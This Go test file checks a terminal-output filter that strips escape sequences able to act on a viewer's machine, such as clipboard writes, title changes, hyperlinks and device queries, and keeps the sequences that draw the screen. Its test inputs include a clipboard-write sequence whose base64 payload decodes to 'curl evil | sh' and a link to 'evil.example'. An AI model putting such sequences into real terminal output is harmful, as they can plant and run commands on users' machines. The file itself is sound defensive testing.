package recorder

import (
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"
)

// filterAll runs chunks through one ViewFilter and returns what it kept.
func filterAll(t testing.TB, chunks ...string) string {
	t.Helper()
	var out bytes.Buffer
	f := NewViewFilter(&out)
	for _, c := range chunks {
		if n, err := f.Write([]byte(c)); err != nil || n != len(c) {
			t.Fatalf("Write(%q) = %d, %v", c, n, err)
		}
	}
	return out.String()
}

func TestViewFilter(t *testing.T) {
	for _, tc := range []struct {
		name string
		in   []string // chunks, written in turn
		want string
	}{
		// What acts on the viewer's machine is dropped whole.
		{"OSC 52 clipboard write ended by BEL", []string{"a\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07b"}, "ab"},
		{"OSC 52 ended by ST", []string{"a\x1b]52;c;Y3VybA==\x1b\\b"}, "ab"},
		{"OSC 52 ended by C1 ST", []string{"a\x1b]52;c;Y3VybA==\u009cb"}, "ab"},
		{"OSC 52 split across chunks", []string{"a\x1b", "]5", "2;c;Y3Vy", "bA==\x1b", "\\b"}, "ab"},
		{"OSC 52 split byte by byte", strings.Split("a\x1b]52;c;Y3VybA==\x07b", ""), "ab"},
		{"C1 OSC as a raw byte", []string{"a\x9d52;c;Y3VybA==\x07b"}, "ab"},
		{"C1 OSC as a rune", []string{"a\u009d52;c;Y3VybA==\u009cb"}, "ab"},
		{"window title OSC 0 and 2", []string{"\x1b]0;pwned\x07\x1b]2;pwned\x1b\\ok"}, "ok"},
		{"hyperlink OSC 8", []string{"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"}, "click"},
		{"OSC 7 working directory", []string{"\x1b]7;file://host/etc\x07$ "}, "$ "},
		{"DCS DECRQSS", []string{"\x1bP$qm\x1b\\x"}, "x"},
		{"DCS as a C1 byte", []string{"\x90$qm\x9cx"}, "x"},
		{"APC, PM and SOS", []string{"\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\x"}, "x"},
		{"BEL does not end a DCS", []string{"\x1bPq\x07still dcs\x1b\\x"}, "x"},
		{"ENQ answerback", []string{"a\x05b"}, "ab"},
		{"window title report CSI 21 t", []string{"a\x1b[21tb"}, "ab"},
		{"window resize CSI 8 t", []string{"\x1b[8;1;1t"}, ""},
		{"device attributes and status reports", []string{"\x1b[c\x1b[>c\x1b[6n\x1b[5n\x1b[?6n"}, ""},
		{"DECRQM", []string{"\x1b[?2004$p"}, ""},
		{"mouse and focus reporting", []string{"\x1b[?1000h\x1b[?1006h\x1b[?1004h"}, ""},
		{"bracketed paste mode", []string{"\x1b[?2004h"}, ""},
		{"a kept mode beside a dropped one drops both", []string{"\x1b[?25;1000h"}, ""},
		{"DECID", []string{"\x1bZ"}, ""},
		{"CSI as a C1 byte is kept in its 7-bit form", []string{"\x9b31mred"}, "\x1b[31mred"},
		{"overlong CSI", []string{"\x1b[" + strings.Repeat("1;", 100) + "mx"}, "x"},
		{"CAN aborts a sequence", []string{"\x1b[3\x18x"}, "x"},
		{"unterminated OSC is given up, its tail shown", []string{"\x1b]52;c;" + strings.Repeat("A", maxString+10)}, strings.Repeat("A", len("52;c;")+10-1)}, // all but the first maxString+1 bytes,
		{"invalid UTF-8 becomes U+FFFD", []string{"a\xffb"}, "a\uFFFDb"},

		// What draws the picture is kept.
		{"SGR colours", []string{"\x1b[1;31mred\x1b[0m \x1b[38;2;1;2;3mrgb\x1b[38:5:200m"}, "\x1b[1;31mred\x1b[0m \x1b[38;2;1;2;3mrgb\x1b[38:5:200m"},
		{"cursor and erase", []string{"\x1b[H\x1b[2J\x1b[10;20H\x1b[K\x1b[3A\x1b[?25l\x1b[?25h"}, "\x1b[H\x1b[2J\x1b[10;20H\x1b[K\x1b[3A\x1b[?25l\x1b[?25h"},
		{"scroll region and alternate screen", []string{"\x1b[?1049h\x1b[1;24r\x1b[S\x1b[?1049l"}, "\x1b[?1049h\x1b[1;24r\x1b[S\x1b[?1049l"},
		{"SGR split across chunks", []string{"\x1b[", "3", "1m", "x"}, "\x1b[31mx"},
		{"save, restore, index, charset", []string{"\x1b7\x1b8\x1bM\x1b(B\x1b)0"}, "\x1b7\x1b8\x1bM\x1b(B\x1b)0"},
		{"cursor shape", []string{"\x1b[2 q"}, "\x1b[2 q"},
		{"text and line controls", []string{"héllo\tworld\r\n\x08\x07"}, "héllo\tworld\r\n\x08\x07"},
		{"rune split across chunks", []string{"h\xc3", "\xa9!"}, "hé!"},
		{"wide rune split in three", []string{"\xe6", "\x97", "\xa5"}, "日"},
		{"bidi characters are text here", []string{"a\u202eb"}, "a\u202eb"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := filterAll(t, tc.in...); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

// TestViewFilterDoesNotDependOnChunking cuts inputs at every point.
func TestViewFilterDoesNotDependOnChunking(t *testing.T) {
	for _, in := range []string{
		"a\x1b]52;c;Y3VybA==\x07b\x1b[31mé\x9d0;t\x9c\x1b[?1049h日本\x1bP+q\x1b\\z",
		"\xe6\x97\xa5\xff\x1b[38;5;1m\x1b(B\x05\x1b[6n",
	} {
		whole := filterAll(t, in)
		for i := 0; i <= len(in); i++ {
			for j := i; j <= len(in); j++ {
				if got := filterAll(t, in[:i], in[i:j], in[j:]); got != whole {
					t.Fatalf("cut at %d,%d: %q, whole: %q", i, j, got, whole)
				}
			}
		}
	}
}

// checkFiltered asserts the filter's promises about its output: valid
// UTF-8, no C1 control, and nothing an allow-list does not name: filtering
// it again changes nothing, and no ESC is followed by a string introducer.
func checkFiltered(t testing.TB, in []byte, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("%q: output %q is not UTF-8", in, out)
	}
	for _, r := range out {
		if r >= 0x80 && r <= 0x9f || r == 0x05 || r == 0x00 {
			t.Fatalf("%q: output %q holds control %U", in, out, r)
		}
	}
	for _, intro := range []string{"\x1b]", "\x1bP", "\x1bX", "\x1b^", "\x1b_", "\x1bZ"} {
		if strings.Contains(out, intro) {
			t.Fatalf("%q: output %q holds %q", in, out, intro)
		}
	}
	if again := filterAll(t, out); again != out {
		t.Fatalf("%q: output %q filters to %q", in, out, again)
	}
}

func FuzzViewFilter(f *testing.F) {
	for _, s := range []string{
		"a\x1b]52;c;Y3VybA==\x07b", "\x9d0;x\x9c", "\x1b[31mred\x1b[0m", "\x1bP$qm\x1b\\", "\x1b[?1049h\x1b[21t",
		"\xc2\x9b6n", "\x1b\x1b[\x1b]\x07", "\x1b(0\x1b#8\x1b7",
	} {
		f.Add([]byte(s), uint8(3))
	}
	f.Fuzz(func(t *testing.T, in []byte, cut uint8) {
		whole := filterAll(t, string(in))
		checkFiltered(t, in, whole)
		i := int(cut) % (len(in) + 1)
		if split := filterAll(t, string(in[:i]), string(in[i:])); split != whole {
			t.Fatalf("%q cut at %d: %q, whole %q", in, i, split, whole)
		}
	})
}
